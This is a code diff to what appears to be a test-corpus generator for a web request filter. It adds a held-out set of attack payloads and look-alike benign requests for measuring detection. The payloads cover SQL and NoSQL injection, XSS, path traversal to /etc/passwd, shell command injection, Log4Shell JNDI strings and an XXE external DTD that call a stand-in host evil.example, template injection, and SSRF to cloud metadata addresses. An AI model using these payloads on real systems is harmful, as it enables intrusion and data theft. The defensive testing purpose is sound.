@@ -781,7 +781,163 @@ def main():
         write(os.path.join(HERE, "attacks", g + ".jsonl"), rows)
     b = benign()
     write(os.path.join(HERE, "benign", "generated.jsonl"), b)
-    print("attacks:", sum(len(v) for v in by_group.values()), "benign:", len(b))
+    att_c, ben_c = heldout_c()
+    write(os.path.join(HERE, "attacks", "heldout-c.jsonl"), att_c)
+    write(os.path.join(HERE, "benign", "heldout-c.jsonl"), ben_c)
+    print("attacks:", sum(len(v) for v in by_group.values()) + len(att_c), "benign:", len(b) + len(ben_c))
+
+
+
+
+# ---------------------------------------------------------------------------
+# Set "c": written after the rules were tuned on sets a and b, and run once to
+# measure; kept separate (heldout-c.jsonl) so later tuning can be told apart.
+HELDOUT_C = {
+    "sqli": ["admin' or 1=1#", "1 or 1=1", "' or ''='", "1' and substring(@@version,1,1)='5",
+             "1 and ascii(substr((select database()),1,1))>64", "' having 1=1--", "%27%20or%20true--",
+             "-1' union select 1,group_concat(schema_name) from information_schema.schemata--+",
+             "' AND 1=CONVERT(int,(SELECT @@version))--", "1 AND 1=2 UNION SELECT NULL--",
+             "'+(select*from(select(sleep(20)))a)+'", "admin'/*", "1' or '1'='1' /*", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"],
+    "xss": ["<svg onload=alert(1)>", "<img src=x:x onerror=alert(1)//", "<scr<script>ipt>alert(1)</script>",
+            "<iframe srcdoc=\"<script>alert(1)</script>\">", "<a href=javas&#99;ript:alert(1)>x</a>", "<x onpointerover=alert(1)>hover",
+            "\" autofocus onfocus=\"alert(1)", "<img \"\"\"><script>alert(\"XSS\")</script>\">", "<style>@import'javascript:alert(1)';</style>",
+            "<body background=\"javascript:alert(1)\">", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
+            "<img src=1 oNeRrOr=top['al'+'ert'](1)>"],
+    "lfi": ["/etc/passwd", "../../../../../etc/shadow%00", "..%5c..%5c..%5cwindows%5cwin.ini", "%252e%252e%252fetc%252fpasswd",
+            "....//....//etc/hosts", "/proc/version", "..%2F..%2F..%2F..%2Fvar%2Fwww%2Fhtml%2Fconfig.php", "/var/www/../../etc/passwd",
+            "..\\\\..\\\\..\\\\boot.ini", "../../../../../../../etc/mysql/my.cnf"],
+    "rce": [";id;", "|cat /etc/passwd", "$(cat /etc/passwd)", "; /bin/cat /etc/passwd", "a|ping -n 5 127.0.0.1",
+            ";echo${IFS}pwned", "127.0.0.1\ncat /etc/passwd", "&& nslookup evil.example", "|| uname -a", "; perl -e 'print 1'",
+            "x`whoami`", ";ls${IFS}-la", "() { ignored; }; echo; /usr/bin/id", "|timeout /t 5"],
+    "php": ["php://filter/resource=/etc/passwd", "<?php phpinfo(); ?>", "data:text/plain,<?php system('id');?>",
+            "O:27:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\\0*\\0socket\";N;}", "system('whoami');", "expect://ls",
+            "<?=system($_GET[0]);", "php://filter/convert.iconv.utf-8.utf-16/resource=index.php"],
+    "java": ["${jndi:ldap://127.0.0.1#evil.example:1389/a}", "${${::-j}ndi:rmi://evil.example/y}",
+             "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/x}", "${j${k8s:k5:-ND}i:ldap://evil.example/x}",
+             "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/x}", "rO0ABXQABHRlc3Q=",
+             "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),\"utf-8\"))}",
+             "#{T(java.lang.Runtime).getRuntime().exec('calc')}"],
+    "nodejs": ["require(\"child_process\").execSync(\"whoami\")", "process.mainModule.require('fs').readFileSync('/etc/passwd')",
+               "eval(\"require('child_process').exec('ls')\")", "global.process.binding('spawn_sync')"],
+    "ssti": ["{{7*'7'}}", "{{ ''.__class__ }}", "${{7*7}}", "{{constructor.constructor('alert(1)')()}}", "*{7*7}", "@(7*7)",
+             "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "<%= File.open('/etc/passwd').read %>",
+             "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"],
+    "ssrf": ["http://127.0.0.1/", "http://localhost:6379/", "http://169.254.169.254/metadata/v1/", "http://[fd00:ec2::254]/latest/meta-data/",
+             "http://0/", "http://0.0.0.0:8080/", "http://017700000001/", "http://instance-data/latest/", "gopher://localhost:25/_HELO%20x",
+             "http://metadata/computeMetadata/v1/", "http://127.1/", "//169.254.169.254/"],
+}
+
+
+def heldout_c():
+    att = []
+    for group, payloads in HELDOUT_C.items():
+        for p in payloads:
+            kinds = ["query", "query_min", "form", "json", "double", "multipart"] if group == "ssrf" else None
+            for r in variants(p, 3, kinds):
+                r["group"], r["set"] = group, "c"
+                att.append(r)
+
+    def add(group, r):
+        r["group"], r["set"] = group, "c"
+        att.append(r)
+
+    for ct, x in [
+        ("application/xml", '<?xml version="1.0"?><!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/hostname"> ]><test>&xxe;</test>'),
+        ("text/xml", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://evil.example/evil.dtd"> %dtd; %send;]><r/>'),
+        ("application/xml", '<!DOCTYPE x SYSTEM "file:///dev/random"><x/>'),
+    ]:
+        add("xxe", req("POST", "/xmlrpc", dict(base_headers(), **{"Content-Type": ct}), x, note="xml body"))
+    svg = '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>'
+    add("xxe", req("POST", "/avatar", dict(base_headers(), **{"Content-Type": "multipart/form-data; boundary=b0"}),
+                   f"--b0\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n{svg}\r\n--b0--\r\n", note="svg upload"))
+    for kind, v in [("json", {"username": {"$ne": "x"}, "password": {"$ne": "x"}}), ("query", "user[$regex]=.*"),
+                    ("json", {"$where": "1==1"}), ("query", "password[%24ne]=1"), ("json", {"age": {"$gt": 0}, "$or": [{}]})]:
+        h = base_headers()
+        if kind == "json":
+            h["Content-Type"] = "application/json"
+            add("nosqli", req("POST", "/api/find", h, json.dumps(v), note=kind))
+        else:
+            add("nosqli", req("GET", "/api/find?" + v, h, note=kind))
+    for ua in ["Mozilla/5.0 (compatible; Nikto/2.5.0)", "sqlmap/1.8.2#stable", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+               "WhatWeb/0.5.5", "Arachni/v1.5.1", "ZmEu", "Mozilla/5.0 zgrab/0.x", "OpenVAS-VT"]:
+        add("scanners", req("GET", "/", base_headers(ua), note="user agent"))
+    for p in ["/.git/index", "/.svn/entries", "/phpMyAdmin/index.php", "/wp-admin/install.php", "/.htpasswd", "/config/.env",
+              "/actuator/heapdump", "/_profiler/phpinfo", "/solr/admin/cores", "/cgi-bin/test-cgi"]:
+        add("scanners", req("GET", p, base_headers(UA_BROWSER[6]), note="probe path"))
+    for t in ["/?PHPSESSID=abc123def456", "/login;jsessionid=XYZ0987", "/cart?JSESSIONID=0A1B2C3D",
+              "/?q=" + q("<meta http-equiv=Set-Cookie content=\"PHPSESSID=evil\">")]:
+        add("session_fixation", req("GET", t, base_headers(), note="session"))
+    add("protocol", req("GET", "/", [["Host", "a"], ["Host", "a"]], note="duplicate host"))
+    add("protocol", req("GET", "/img?name=logo.png%00.php", base_headers(), note="nul"))
+    add("protocol", req("GET", "/?" + "&".join(f"p{i}=x" for i in range(2000)), base_headers(), note="too many args"))
+
+    ben = []
+
+    def b(r, note):
+        r["set"], r["note"] = "c", note
+        ben.append(r)
+
+    searches = ["how to select a good laptop", "union square hotels", "drop shipping business ideas", "best pizza near me",
+                "1=1 proof by induction", "what is a sql join", "where is the /etc/hosts file on mac", "script writing course",
+                "alert: storm warning", "cat food -- grain free", "O'Reilly Media books", "C:\\Users\\Public documents",
+                "sleep 8 hours a night", "echo dot 5th gen", "shell oil price", "python vs. java", "<3 quotes for her",
+                "wget vs curl", "SELECT Comfort mattress", "order by price low to high", "iPhone 15 (128 GB) - black",
+                "Cafe & bar; open late", "50/50 raffle rules", "2 > 1", "rm 101 schedule", "\"exact phrase\" search",
+                "l'Oréal shampoo", "naïve café résumé", "東京 ホテル", "서울 맛집", "Санкт-Петербург погода", "القاهرة مطاعم"]
+    for s in searches:
+        b(req("GET", "/search?q=" + q(s).replace("%20", "+"), base_headers()), "search")
+        b(req("GET", "/api/suggest?term=" + q(s) + "&limit=8", dict(base_headers(), Accept="application/json")), "suggest")
+    docs = [
+        {"title": "Release notes 4.2", "body": "<p>We fixed a bug where <code>SELECT</code> queries timed out.</p><ul><li>Faster search</li><li>New <a href=\"https://example.com/docs\">docs</a></li></ul>"},
+        {"name": "Seán Ó Briain", "company": "Ó Briain & Sons Ltd.", "address": {"line1": "12 O'Connell St.", "city": "Dublin", "zip": "D01 F5P2"}},
+        {"query": "query($id: ID!) { node(id: $id) { ... on User { name avatarUrl(size: 64) } } }", "variables": {"id": "VXNlcjox"}},
+        {"events": [{"type": "page_view", "url": "https://shop.example.com/cart?coupon=SAVE10&utm_source=mail", "ts": 1715940000}] * 3},
+        {"comment": "Tried `docker ps -a` and `kubectl get pods`; both work. Thanks!", "rating": 5},
+        {"recipe": "Mix flour & sugar; bake at 180°C for 25-30 min. Serve with cream (optional).", "tags": ["dessert", "easy"]},
+        {"sql_tip": "Use WHERE id IN (1, 2, 3) instead of OR chains", "author": "dba_team"},
+        {"bio": "Full-stack dev. JS/TS, Rust & Go. Opinions my own; retweets != endorsements.", "website": "https://dev.example.io"},
+        {"message": "Hi! Your order #A-1029 ships tomorrow. Questions? Reply to this email or call 0800-123-456.", "lang": "en"},
+        {"translation": {"de": "Grüße aus Köln", "fr": "À tout à l'heure", "es": "¿Qué tal? ¡Muy bien!", "zh": "谢谢你的帮助", "ar": "شكرا جزيلا"}},
+        {"filters": {"price": {"min": 10, "max": 100}, "brand": ["Nike", "Adidas"], "sort": "price_desc"}},
+        {"password": "P@ssw0rd!#$%^&*()", "confirm": "P@ssw0rd!#$%^&*()"},
+        {"note": "Path is C:\\Program Files\\App\\config.ini -- edit with admin rights"},
+        {"jwt": "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJodHRwczovL2F1dGguZXhhbXBsZS5jb20iLCJzdWIiOiJ1c2VyLTEyMyJ9.c2lnbmF0dXJl", "scope": "read:orders write:orders"},
+        {"html": "<h2>Welcome</h2><p>Read our <em>terms</em> &amp; <strong>privacy</strong> policy.</p>"},
+        {"csv": "id,name,price\n1,Widget,9.99\n2,\"Gadget, large\",19.99\n"},
+        {"regex": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$", "desc": "email validation"},
+        {"cron": "*/5 * * * *", "command_name": "refresh-cache"},
+        {"emoji": "Great job 👍🎉🔥", "reactions": {"👍": 12, "❤️": 3}},
+        {"math": "if a > b and b > c then a > c; x = (y + 2) * 3", "level": "easy"},
+    ]
+    for d in docs:
+        b(req("POST", "/api/v3/items", dict(base_headers(), **{"Content-Type": "application/json; charset=utf-8"}), json.dumps(d, ensure_ascii=False)), "json doc")
+    forms = [
+        "username=jane.doe&password=Summer2024%21&remember=on",
+        "first_name=Ren%C3%A9e&last_name=O%27Connor&phone=%2B33+6+12+34+56+78&country=FR",
+        "q=select+a+plan&plan=pro&billing=annual&coupon=",
+        "comment=I+love+it+--+5+stars%21+Would+recommend+to+anyone+%3A%29&product_id=88",
+        "search%5Bterm%5D=red+shoes&search%5Bsize%5D%5B%5D=42&search%5Bsize%5D%5B%5D=43",
+        "redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&client_id=abc123&response_type=code&state=xyz",
+        "message=Meet+me+at+the+union+station%3B+bring+the+tickets+%26+snacks",
+        "address=221B+Baker+St.%2C+London+NW1+6XE&notes=Ring+twice%2C+then+knock",
+    ]
+    for f in forms:
+        b(req("POST", "/form", dict(base_headers(), **{"Content-Type": "application/x-www-form-urlencoded"}), f), "form")
+    for t in ["/api/v1/users/550e8400-e29b-41d4-a716-446655440000/avatar", "/files/Report%20Q1%20(final).pdf", "/blog/why-we-moved-to-rust",
+              "/t/select-the-right-database/1234", "/wiki/SQL_injection", "/wiki/Cross-site_scripting", "/docs/etc/configuration",
+              "/products/union-jack-t-shirt", "/shop/cat/toys?page=3", "/api/v1/search?q=drop+table+tennis&fields=id,name",
+              "/s/ref=nb_sb_noss?url=search-alias%3Daps&field-keywords=usb+cable", "/maps/@48.8584,2.2945,17z",
+              "/api/v1/reports?from=2024-01-01&to=2024-03-31&format=csv", "/download?file=invoice-2024-05.pdf",
+              "/image.php?w=300&h=200&src=/uploads/2024/05/photo.jpg", "/go?to=https%3A%2F%2Fpartner.example.net%2Fdeal%3Fid%3D7"]:
+        b(req("GET", t, base_headers()), "path")
+    for m, t, body in [("DELETE", "/api/v1/carts/77/items/3", None), ("PUT", "/api/v1/profile", json.dumps({"displayName": "Zoë O'Neil", "locale": "fr-CA"})),
+                       ("PATCH", "/api/v1/tasks/9", json.dumps({"status": "done", "note": "closed -- dup of #8"}))]:
+        b(req(m, t, dict(base_headers(), **{"Content-Type": "application/json"}), body), "api method")
+    b(req("POST", "/soap", dict(base_headers(), **{"Content-Type": "text/xml; charset=utf-8", "SOAPAction": "\"urn:GetQuote\""}),
+          '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetQuote><symbol>T</symbol><note>AT&amp;T -- select shares</note></GetQuote></soap:Body></soap:Envelope>'), "xml")
+    b(req("POST", "/api/logs", dict(base_headers(), **{"Content-Type": "text/plain"}), "2024-05-17 10:00:01 INFO user=42 action=login ip=203.0.113.7 ua=\"Mozilla/5.0\""), "text body")
+    b(req("POST", "/upload", dict(base_headers(), **{"Content-Type": "application/octet-stream"}), "\u0000\u0001binary<script>;|&"), "binary")
+    return att, ben
 
 
 if __name__ == "__main__":
